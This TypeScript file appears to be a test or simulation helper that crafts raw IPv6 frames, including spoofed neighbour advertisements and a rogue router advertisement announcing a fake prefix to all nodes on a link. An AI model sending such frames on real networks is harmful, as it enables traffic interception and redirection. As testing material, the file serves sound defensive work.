import { ipBytes } from '../../runtime/ip-bytes.ts';
import { checksum, mac, type Place } from './attacker.ts';

const UDP = 17;
const ICMP = 58;
const ADVERTISEMENT = 136;
const TARGET_LINK = 2;
const ROUTER = 134;
const PREFIX_INFORMATION = 3;
/** To the nodes of a link, and the frame address that goes with it. */
const EVERYBODY = { ip: 'ff02::1', mac: '33:33:00:00:00:01' };

/** UDP over IPv6 over Ethernet. */
export function udp6Frame(from: Place, to: Place, port: number, text: string | Buffer): Buffer {
  const udp = Buffer.concat([Buffer.alloc(8), Buffer.from(text as Buffer)]);
  udp.writeUInt16BE(40_000, 0);
  udp.writeUInt16BE(port, 2);
  udp.writeUInt16BE(udp.length, 4);
  return ipv6Frame(from, to, UDP, udp, 6);
}

/** An unsolicited neighbour advertisement: `from` says that the target's address is at its MAC address. */
export function advertisement(from: Place, target: string): Buffer {
  const head = Buffer.from([ADVERTISEMENT, 0, 0, 0, 0x20, 0, 0, 0]);
  const message = Buffer.concat([head, ipBytes(target), Buffer.from([TARGET_LINK, 1]), mac(from.mac)]);
  return ipv6Frame(from, EVERYBODY, ICMP, message, 2);
}

/** A router advertisement that tells everybody of a way out and of 2001:db8:bad::/64, to take addresses of. */
export function routerAdvertisement(fromMac: string): Buffer {
  const message = Buffer.alloc(48);
  message.set([ROUTER, 0, 0, 0, 64, 0, 7, 8]);
  message.set([PREFIX_INFORMATION, 4, 64, 0xc0, 0, 0, 7, 8, 0, 0, 7, 8], 16);
  message.set(ipBytes('2001:db8:bad::'), 32);
  return ipv6Frame({ ip: 'fe80::1', mac: fromMac }, EVERYBODY, ICMP, message, 2);
}

function ipv6Frame(from: Place, to: Place, protocol: number, payload: Buffer, checksumAt: number): Buffer {
  const addresses = Buffer.concat([ipBytes(from.ip), ipBytes(to.ip)]);
  const pseudo = Buffer.concat([addresses, Buffer.from([0, 0, 0, payload.length, 0, 0, 0, protocol]), payload]);
  const even = pseudo.length % 2 === 0 ? pseudo : Buffer.concat([pseudo, Buffer.alloc(1)]);
  payload.writeUInt16BE(checksum(even), checksumAt);
  const head = Buffer.from([0x60, 0, 0, 0, 0, payload.length, protocol, 255]);
  return Buffer.concat([mac(to.mac), mac(from.mac), Buffer.from([0x86, 0xdd]), head, addresses, payload]);
}
